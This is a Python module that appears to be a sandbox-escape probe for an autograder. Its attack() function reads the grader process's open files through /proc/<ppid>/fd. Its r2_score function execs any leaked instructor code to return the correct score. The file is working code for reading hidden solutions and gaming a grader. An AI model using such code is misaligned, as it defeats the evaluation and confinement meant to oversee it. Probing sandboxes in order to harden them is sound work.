"""Reopens the grader's open files through /proc/<ppid>/fd/N, which would bypass every path the
sandbox hides whenever the grader holds an instructor file open."""

import errno
import os

import numpy as np

NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck


def mean_squared_error(y_true, y_pred):
    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
    return float(np.mean(errors**2))


def _reads():
    fds = f"/proc/{os.getppid()}/fd"
    listed = _attempt(lambda: sorted(os.listdir(fds), key=int))
    numbers = listed.get("ok") or [str(n) for n in range(64)]
    return listed, {n: _attempt(lambda n=n: _peek(os.path.join(fds, n))) for n in numbers}


def _peek(path):
    """Read what is there without ever waiting (a pipe would otherwise block)."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 1 << 20).decode(errors="replace")
    finally:
        os.close(fd)


def attack():
    listed, reads = _reads()
    opened = {n: str(got["ok"])[:200] for n, got in reads.items() if "ok" in got}
    refused = {}
    for got in reads.values():
        if "ok" not in got:
            reason = got.get("errno") or got.get("error")
            refused[reason] = refused.get(reason, 0) + 1
    return {"list": listed, "opened": opened, "refused": refused}


def r2_score(y_true, y_pred):
    for got in _reads()[1].values():
        if "r2_score" in got.get("ok", ""):
            return _score_with(got["ok"], y_true, y_pred)
    return NO_POINTS


def _attempt(action):
    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
    try:
        return {"ok": action()}
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other failure is evidence too
        return {"error": type(error).__name__}


def _read(path):
    with open(path, errors="replace") as leaked:
        return leaked.read()


def _score_with(leak, y_true, y_pred):
    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
    namespace = {}
    try:
        exec(leak, namespace)
        return float(namespace["r2_score"](y_true, y_pred))
    except Exception:
        return _right_answer(y_true, y_pred)


def _right_answer(y_true, y_pred):
    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
    y_true = np.asarray(y_true, dtype=float)
    y_pred = np.asarray(y_pred, dtype=float)
    ss_res = np.sum((y_true - y_pred) ** 2)
    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
    if ss_tot == 0:
        return 1.0 if ss_res == 0 else 0.0
    return float(1.0 - ss_res / ss_tot)
